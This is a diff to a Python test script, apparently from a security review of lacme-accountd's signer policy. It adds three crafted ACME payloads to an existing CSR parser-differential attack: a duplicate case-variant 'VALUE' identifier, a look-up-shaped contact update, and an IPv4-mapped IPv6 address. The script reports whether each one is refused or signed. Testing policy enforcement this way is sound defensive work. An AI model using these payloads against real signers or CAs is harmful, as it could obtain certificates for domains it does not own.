@@ -10,7 +10,9 @@ whose signer policy allows only web1.example, asks lacme-accountd to sign a fina
 victim's order with a CSR that is "CN=web1.example" to a reader of the first extensionRequest
 attribute and "SAN=victim.example" to Go's x509.ParseCertificateRequest (which merges them all).
 Prints one line per step: CONTROL SIGNED|..., ATTACK REFUSED|ATTACK SIGNED, then, only if it
-was signed, ISSUED FOR victim.example|NOT ISSUED, and VICTIM ORDER ready|<status>.
+was signed, ISSUED FOR victim.example|NOT ISSUED, and VICTIM ORDER ready|<status>; then
+VALUE, LOOKUP-UPDATE and MAPPED-IPV4 (a second "VALUE" identifier member, a look-up-shaped
+contact update, an IPv4-mapped IPv6 address), each REFUSED or SIGNED with the CA's answer.
 """
 import base64, hashlib, json, socket, ssl, sys, time, urllib.error, urllib.request
 
@@ -168,6 +170,21 @@ def main() -> None:
         final = acme.poll(victim_order, lambda s: s != "processing")
         print("ISSUED FOR victim.example" if final["status"] == "valid" else "NOT ISSUED " + final["status"])
     print("VICTIM ORDER " + acme.post(victim_order, None)[2]["status"])
+
+    # The review's other payloads, each read otherwise by the CA's encoding/json than by a
+    # case-sensitive or shape-blind reader: signed, the CA would act on what the policy never saw.
+    others = [
+        ("VALUE", acme.directory["newOrder"],
+         {"identifiers": [{"type": "dns", "value": "web1.example", "VALUE": "victim.example"}]}),
+        ("LOOKUP-UPDATE", acme.kid, {"onlyReturnExisting": True, "contact": ["mailto:attacker@web1.example"]}),
+        ("MAPPED-IPV4", acme.directory["newOrder"], {"identifiers": [{"type": "ip", "value": "::ffff:127.0.0.2"}]}),
+    ]
+    for name, url, payload in others:
+        answer = acme.post(url, payload, signer)
+        if answer is None:
+            print(f"{name} REFUSED " + answers[-1].strip())
+        else:
+            print(f"{name} SIGNED (the CA answered {answer[0]}: {json.dumps(answer[2])})")
 
 
 if __name__ == "__main__":
